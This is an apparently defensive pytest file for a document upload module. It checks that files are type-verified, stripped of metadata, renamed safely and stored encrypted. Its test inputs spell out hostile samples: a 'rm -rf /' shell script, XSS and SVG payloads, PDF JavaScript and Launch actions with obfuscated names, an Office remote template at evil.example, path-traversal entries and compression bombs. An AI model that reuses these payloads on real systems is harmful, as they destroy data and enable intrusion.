"""Taking a file in: judged by its content, made harmless, kept encrypted."""

from __future__ import annotations

import io
from datetime import datetime
from typing import Any
from uuid import UUID

import pytest
from PIL import Image

from tests.dossiers import files
from yimen.dossiers import queries
from yimen.dossiers.commands import accept_upload
from yimen.dossiers.contents import DOCX, JPEG, OFD, PDF, PNG, WEBP, XLSX
from yimen.dossiers.models import Upload
from yimen.foundation import crypto, environment, storage
from yimen.foundation.ids import new_id
from yimen.law.refusal import Refusal


def _refusal(owner: UUID, now: datetime, name: str, content: bytes) -> str:
    with pytest.raises(Refusal) as caught:
        accept_upload(owner_id=owner, name=name, content=content, now=now)
    assert caught.value.field == "file"
    assert not Upload.objects.exists()
    return caught.value.code


@pytest.mark.parametrize(
    ("name", "content", "media_type"),
    [
        ("申请表.pdf", files.pdf(), PDF),
        ("照片.JPG", files.picture(), JPEG),
        ("照片.jpeg", files.picture(mode="CMYK"), JPEG),
        ("扫描.png", files.picture("PNG", mode="RGBA"), PNG),
        ("扫描.png", files.picture("PNG", mode="I;16"), PNG),
        ("截图.webp", files.picture("WEBP"), WEBP),
        ("证明.ofd", files.ofd(), OFD),
        ("合同.docx", files.office(), DOCX),
        ("名单.xlsx", files.office(files.EXCEL_MAIN), XLSX),
    ],
)
def test_every_wanted_type_is_taken(owner: UUID, now: datetime, name: str, content: bytes, media_type: str) -> None:
    card = accept_upload(owner_id=owner, name=name, content=content, now=now)
    assert (card.name, card.media_type, card.owner_id) == (name.replace("JPG", "jpg"), media_type, owner)
    found, kept = queries.read_upload(card.id)
    assert (found, len(kept)) == (card, card.size)


def test_documents_are_kept_to_the_byte(owner: UUID, now: datetime) -> None:
    card = accept_upload(owner_id=owner, name="申请表.pdf", content=files.pdf(), now=now)
    assert queries.read_upload(card.id)[1] == files.pdf()


def test_the_file_on_disk_is_not_readable(owner: UUID, now: datetime) -> None:
    accept_upload(owner_id=owner, name="申请表.pdf", content=files.pdf(), now=now)
    (path,) = list((environment.home() / "storage").rglob(Upload.objects.get().digest))
    assert b"PDF" not in path.read_bytes()
    assert path.stat().st_mode & 0o077 == 0


def test_files_exchanged_on_disk_do_not_open(owner: UUID, now: datetime) -> None:
    one = accept_upload(owner_id=owner, name="一.pdf", content=files.pdf(b"% one\n"), now=now)
    two = accept_upload(owner_id=owner, name="二.pdf", content=files.pdf(b"% two\n"), now=now)
    first, second = (Upload.objects.get(id=card.id).digest for card in (one, two))
    folder = environment.home() / "storage"
    (folder / first[:2] / first[2:4] / first).write_bytes((folder / second[:2] / second[2:4] / second).read_bytes())
    with pytest.raises(crypto.SealBroken):
        queries.read_upload(one.id)
    storage.remove(first)


def test_a_photo_loses_its_camera_and_its_place_and_stands_upright(owner: UUID, now: datetime) -> None:
    taken = files.picture(exif=True)
    assert b"SpyPhone" in taken
    card = accept_upload(owner_id=owner, name="照片.jpg", content=taken, now=now)
    kept = queries.read_upload(card.id)[1]
    assert b"SpyPhone" not in kept
    with Image.open(io.BytesIO(kept)) as image:
        assert not image.getexif()
        assert image.size == (30, 40)


def test_what_hides_behind_a_picture_is_gone(owner: UUID, now: datetime) -> None:
    hidden = files.picture() + files.package({"a.exe": files.EXE}) + b"<script>alert(1)</script>"
    card = accept_upload(owner_id=owner, name="照片.jpg", content=hidden, now=now)
    kept = queries.read_upload(card.id)[1]
    assert b"PK" not in kept
    assert b"script" not in kept


def test_a_transparent_palette_stays_transparent(owner: UUID, now: datetime) -> None:
    target = io.BytesIO()
    Image.new("P", (4, 4)).save(target, "PNG", transparency=0)
    card = accept_upload(owner_id=owner, name="印章.png", content=target.getvalue(), now=now)
    with Image.open(io.BytesIO(queries.read_upload(card.id)[1])) as image:
        assert image.getpixel((0, 0)) == (0, 0, 0, 0)


def test_an_empty_file_is_refused(owner: UUID, now: datetime) -> None:
    assert _refusal(owner, now, "申请表.pdf", b"") == "file_empty"


def test_a_file_over_the_limit_is_refused_and_one_at_the_limit_taken(owner: UUID, now: datetime, settings: Any) -> None:
    settings.YIMEN_UPLOAD_LIMIT_BYTES = len(files.pdf())
    assert _refusal(owner, now, "申请表.pdf", files.pdf(b"%\n")) == "file_too_large"
    accept_upload(owner_id=owner, name="申请表.pdf", content=files.pdf(), now=now)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("申请表.pdf", files.EXE),
        ("申请表.docx", files.EXE),
        ("照片.jpg", b"<html><script>alert(1)</script></html>"),
        ("照片.png", b'<?xml version="1.0"?><svg onload="alert(1)"/>'),
        ("照片.jpg", files.picture("PNG")),
        ("照片.png", files.pdf()),
        ("合同.docx", files.office(files.EXCEL_MAIN)),
        ("合同.docx", files.package({"readme.txt": b"hello"})),
        ("合同.docx", b"PK\x03\x04 and nothing more"),
        ("申请表.exe", files.pdf()),
        ("申请表.html", files.pdf()),
        ("图.gif", files.picture()),
    ],
)
def test_a_name_that_says_something_else_than_the_content_is_refused(
    owner: UUID, now: datetime, name: str, content: bytes
) -> None:
    assert _refusal(owner, now, name, content) == "disguised_file"


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("安装.exe", files.EXE, "forbidden_file"),
        ("安装", files.EXE, "forbidden_file"),
        ("run.sh", b"#!/bin/sh\nrm -rf /\n", "forbidden_file"),
        ("page.html", b"\xef\xbb\xbf \n<!DOCTYPE html><html></html>", "forbidden_file"),
        ("pic.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "forbidden_file"),
        ("说明.txt", "你好".encode(), "file_type"),
        ("动图.gif", b"GIF89a" + b"\0" * 40, "file_type"),
        ("压缩.zip", files.package({"a.txt": b"a"}), "file_type"),
        ("旧版.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "file_type"),
        ("加密.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "encrypted_file"),
    ],
)
def test_types_that_are_not_wanted_are_refused_with_what_to_do(
    owner: UUID, now: datetime, name: str, content: bytes, code: str
) -> None:
    assert _refusal(owner, now, name, content) == code


def test_a_picture_that_would_fill_the_memory_is_refused(owner: UUID, now: datetime) -> None:
    assert _refusal(owner, now, "大.png", files.huge_png(8000)) == "picture_too_large"
    assert _refusal(owner, now, "大.png", files.huge_png(60000)) == "picture_too_large"


@pytest.mark.parametrize("name", ["照片.jpg", "照片.png"])
def test_half_a_picture_is_refused(owner: UUID, now: datetime, name: str) -> None:
    whole = files.picture("JPEG" if name.endswith("jpg") else "PNG", size=(400, 400))
    assert _refusal(owner, now, name, whole[: len(whole) // 2]) == "file_damaged"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (files.pdf(b"5 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"), "active_content"),
        (files.pdf(b"5 0 obj\n<< /S /J#61vaScript >>\nendobj\n"), "active_content"),
        (files.pdf(b"5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"), "active_content"),
        (files.pdf(b"5 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n"), "active_content"),
        (files.pdf(files.stream(b"/Type /ObjStm /N 1 /First 4", b"5 0 << /S /JavaScript >>")), "active_content"),
        (
            files.pdf(files.stream(b"/Type /Obj#53tm", b" " * 100_000 + b"5 0 << /S /L#61unch >>")),
            "active_content",
        ),
        (files.pdf(files.stream(b"/Type /ObjStm", b"endstream stream\n << /S /JavaScript >>")), "active_content"),
        (files.pdf(b"5 0 obj\n<< /Encrypt 6 0 R >>\nendobj\n"), "encrypted_file"),
        (files.pdf() + files.package({"a.exe": files.EXE}), "disguised_file"),
        (files.pdf()[:-40], "file_damaged"),
        (b"%PDF-1.7\n" + files.EXE, "file_damaged"),
    ],
)
def test_a_pdf_that_runs_hides_or_locks_something_is_refused(
    owner: UUID, now: datetime, content: bytes, code: str
) -> None:
    assert _refusal(owner, now, "申请表.pdf", content) == code


def test_a_pdf_whose_names_only_resemble_is_taken(owner: UUID, now: datetime) -> None:
    harmless = files.pdf(
        b"5 0 obj\n<< /JavaScriptless 1 /EncryptMetadata false >>\nendobj\n",
        files.stream(b"/Type /ObjStm", b"5 0 << /Launches 1 >>"),
    )
    accept_upload(owner_id=owner, name="申请表.pdf", content=harmless, now=now)


def test_a_pdf_that_inflates_without_end_is_refused(
    owner: UUID, now: datetime, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("yimen.dossiers.contents.pdf._MOST_WORK", 1024 * 1024)
    bomb = files.pdf(files.stream(b"/Type /ObjStm", b" " * 4 * 1024 * 1024))
    assert _refusal(owner, now, "申请表.pdf", bomb) == "archive_bomb"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (files.office(files.MACRO_MAIN), "macro_document"),
        (files.office(parts={"word/vbaProject.bin": b"\xd0\xcf"}), "macro_document"),
        (files.office(parts={"xl/macrosheets/sheet1.xml": b"<x/>"}), "macro_document"),
        (files.office(parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), "active_content"),
        (files.office(parts={"word/activeX/activeX1.xml": b"<x/>"}), "active_content"),
        (
            files.office(
                parts={
                    "word/_rels/settings.xml.rels": b'<Relationships><Relationship Type="http://x/attachedTemplate"'
                    b' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
                }
            ),
            "active_content",
        ),
        (files.office(parts={"word/media/setup.EXE": files.EXE}), "forbidden_file"),
        (files.office(parts={"../../etc/cron.d/x": b"x"}), "disguised_file"),
        (files.office(parts={"word/zero.xml": b"\0" * 50 * 1024 * 1024}), "archive_bomb"),
        (files.office(parts={f"word/{number}.xml": b"" for number in range(3001)}), "archive_bomb"),
        (files.locked(files.office(parts={"word/a.xml": b"a"})), "disguised_file"),
    ],
)
def test_a_document_that_runs_something_or_explodes_is_refused(
    owner: UUID, now: datetime, content: bytes, code: str
) -> None:
    assert _refusal(owner, now, "合同.docx", content) == code


def test_a_locked_ofd_is_refused(owner: UUID, now: datetime) -> None:
    assert _refusal(owner, now, "证明.ofd", files.locked(files.ofd())) == "encrypted_file"


def test_a_link_to_a_web_page_in_a_document_is_no_danger(owner: UUID, now: datetime) -> None:
    link = (
        b'<Relationships><Relationship Id="rId1" Type="http://x/hyperlink" Target="http://www.gov.cn"'
        b' TargetMode="External"/></Relationships>'
    )
    content = files.office(parts={"word/_rels/document.xml.rels": link})
    accept_upload(owner_id=owner, name="合同.docx", content=content, now=now)


def test_a_document_with_something_before_or_behind_it_is_refused(owner: UUID, now: datetime) -> None:
    commented = bytearray(files.office())
    commented[-2:] = (9).to_bytes(2, "little")
    assert _refusal(owner, now, "合同.docx", bytes(commented) + b"#!/bin/sh") == "disguised_file"
    assert _refusal(owner, now, "合同.docx", files.ofd() + files.office()) == "disguised_file"


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("申请表.pdf", "申请表.pdf"),
        (r"C:\Users\wang\申请表.pdf", "申请表.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("申请表", "申请表.pdf"),
        ("", "未命名.pdf"),
        (".pdf", "未命名.pdf"),
        ("a\x00b\r\nc.pdf", "abc.pdf"),
        ("发票\u202efdp.pdf", "发票fdp.pdf"),
        ('坏"名<字>.pdf', "坏_名_字_.pdf"),
        ("长" * 300 + ".pdf", "长" * 116 + ".pdf"),
    ],
)
def test_names_are_made_harmless(owner: UUID, now: datetime, given: str, kept: str) -> None:
    assert accept_upload(owner_id=owner, name=given, content=files.pdf(), now=now).name == kept


def test_only_the_owner_finds_her_files(owner: UUID, now: datetime) -> None:
    card = accept_upload(owner_id=owner, name="申请表.pdf", content=files.pdf(), now=now)
    assert queries.upload_for(owner, [card.id, new_id()]) == {card.id: card}
    assert queries.upload_for(new_id(), [card.id]) == {}
    assert queries.upload_cards([card.id]) == {card.id: card}


def test_reading_what_is_not_there_is_refused(db: None) -> None:
    with pytest.raises(Refusal) as caught:
        queries.read_upload(new_id())
    assert caught.value.code == "unknown_upload"
